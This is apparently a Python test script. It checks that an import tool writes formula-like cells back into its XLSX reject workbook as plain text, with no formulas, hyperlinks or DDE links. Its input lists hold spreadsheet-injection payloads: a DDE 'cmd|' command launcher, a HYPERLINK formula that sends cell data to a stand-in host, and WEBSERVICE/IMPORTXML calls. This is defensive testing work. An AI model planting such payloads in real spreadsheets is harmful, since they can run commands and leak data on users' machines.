#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What citizens and offices write into cells stays text when it is written out again: a hundred thousand cells
that spreadsheets would take for formulas, links or commands come back in the workbook of rejected rows as they
were, and none of them is one. Usage: sheets.py MOIDAN"""
import os
import random
import re
import sys
import zipfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../flow"))
from lib import HEADINGS, House  # noqa: E402

ROWS = 10_000
STARTS = ["=", "+", "-", "@", "=+", "@=", "=-", "+=", "\uff1d", "\uff0b", "'=", " =", "{=", "%="]
BODIES = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://a.example/?x=\"&A1)", "IMPORTXML(CONCAT(\"http://a.example\"))",
          "SUM(1,1)*cmd|'/c'!A1", "WEBSERVICE(\"http://a.example\")", "DDE(\"cmd\")", "A1", "2+5+cmd|' /C'!'A1'",
          "rundll32.exe", "http://a.example", "mailto:a@a.example", "file:///etc/passwd", "<f>1</f>", "&lt;f&gt;", "]]>",
          "_x003D_1", "\\", "\"\"", "x" * 300]


def cell(luck):
    return luck.choice(STARTS) + luck.choice(BODIES)


def rows(luck):
    yield HEADINGS
    columns = HEADINGS.count(";") + 1
    for i in range(ROWS):
        cells = [cell(luck) for _ in range(columns)]
        cells[1] = f"=K{i}"  # the code of each its own
        cells[2] = ""  # without a name it is rejected
        cells[7] = luck.choice(("+", "=", "@", "-")) + "abc" + str(i)
        yield ";".join('"' + c.replace('"', '""') + '"' for c in cells)


def main():
    luck = random.Random(46)
    with House(sys.argv[1]) as h:
        h.configure("http://127.0.0.1:9")
        h.run("init")
        lines = list(rows(luck))
        h.run("import", "vneid", h.write("list.csv", "\n".join(lines) + "\n"), "--rejects", h.path("sai.xlsx"), code=None)
        with zipfile.ZipFile(h.path("sai.xlsx")) as z:
            names = z.namelist()
            sheets = {n: z.read(n).decode() for n in names if n.endswith((".xml", ".rels"))}
        assert not [n for n in names if "externalLink" in n or "vba" in n.lower() or "connections" in n], names
        strings = 0
        for name, text in sheets.items():
            assert not re.search(r"<f[ >/]|<hyperlink|TargetMode|ddeLink|<definedName", text), name
            strings += len(re.findall(r't="(?:s|inlineStr|str)"', text))
        kept = "".join(sheets.values())
        assert "HYPERLINK(" in kept and "cmd|" in kept, "nothing dangerous came back: nothing was shown"
        assert strings >= 10 * ROWS, strings
        # Cells that are numbers are numbers, not what begins like one.
        assert not re.search(r"<v>[=+@]", "".join(t for n, t in sheets.items() if "worksheets" in n))
        print(f"ok {strings} cells of text, no formula")


main()
